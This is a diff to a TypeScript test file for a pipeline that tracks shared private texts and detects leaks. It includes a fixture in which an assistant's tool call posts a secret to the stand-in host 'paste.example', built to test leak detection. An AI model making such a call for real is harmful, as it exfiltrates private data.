@@ -117,9 +117,9 @@ describe('the pipeline with shared texts', () => {
     asked.mockRestore();
     // The first interaction's jobs (a private read: detectors, its hashes, its audit row) share one text, and none
     // carries a copy of it.
-    const first = jobs.filter((j) => j.shared?.some((s) => s.path.length > 0)).slice(0, 3);
-    expect(first.map((j) => j.kind).sort()).toEqual(['audit_row', 'evaluate', 'read_hashes']);
-    expect(new Set(first.flatMap((j) => j.shared!.map((s) => s.text.id))).size).toBe(1);
+    const id = jobs.find((j) => j.shared?.length)!.shared![0]!.text.id;
+    const first = jobs.filter((j) => j.shared?.some((s: SharedLeaf) => s.text.id === id));
+    expect(first.map((j) => j.kind)).toEqual(expect.arrayContaining(['audit_row', 'evaluate', 'read_hashes']));
     for (const j of first) expect(longStrings({ ...j, shared: undefined }, SHARE_MIN_CHARS)).toEqual([]);
     // A send of a piece of the private read is a leak on both.
     const send = InteractionSchema.parse({ agent: 'assistant', session: 's2', kind: 'tool_call', server: 'web', tool: 'post_message', arguments: { url: 'https://paste.example/new', text: secret } });
